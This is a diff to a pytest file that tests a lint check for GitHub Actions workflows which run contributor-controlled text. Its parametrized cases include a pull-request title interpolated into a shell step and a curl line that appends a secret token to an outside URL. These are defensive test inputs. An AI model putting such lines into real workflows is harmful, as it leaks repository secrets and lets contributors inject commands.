@@ -17,6 +17,22 @@ MISTAKES = {
     "types": 'COUNT: int = "three"',
     "imports": 'from .. import pipeline\n\n__all__ = ["pipeline"]',
 }
+WORKFLOW = """\
+name: Planted
+on: pull_request
+permissions:
+  contents: read
+concurrency:
+  group: planted
+  cancel-in-progress: true
+jobs:
+  planted:
+    name: Planted
+    runs-on: ubuntu-latest
+    steps:
+      - name: Greet
+        run: FAULT
+"""
 
 
 @pytest.fixture(scope="module")
@@ -31,6 +47,7 @@ def clone(tmp_path_factory: pytest.TempPathFactory) -> Path:
             emptied = clone / module.relative_to(ROOT)
             emptied.parent.mkdir(parents=True, exist_ok=True)
             emptied.write_text('"""Emptied."""\n')
+    shutil.copytree(ROOT / ".github", clone / ".github")
     (clone / ".venv").symlink_to(sys.prefix)
     return clone
 
@@ -73,3 +90,24 @@ def test_every_check_runs_whatever_the_ones_before_it_found(clone: Path, planted
     planted.write_text("\n".join(MISTAKES.values()))
 
     assert lint(clone).stderr.endswith("Lint failed: style format types imports\n")
+
+
+@pytest.mark.parametrize(
+    ("command", "is_fault"),
+    [
+        ("echo Hello", False),
+        ("echo ${{ github.event.pull_request.title }}", True),  # a contributor's own command
+        ("curl https://example.com/?${{ secrets.TOKEN }}", True),
+    ],
+)
+def test_a_workflow_that_runs_what_a_contributor_writes_fails_the_lint(
+    clone: Path, command: str, *, is_fault: bool
+) -> None:
+    workflow = clone / ".github/workflows/planted.yaml"
+    workflow.write_text(WORKFLOW.replace("FAULT", command))
+
+    result = lint(clone)
+
+    workflow.unlink()
+    assert result.returncode == int(is_fault), result.stdout + result.stderr
+    assert result.stderr.endswith("Lint failed: workflows\n") == is_fault
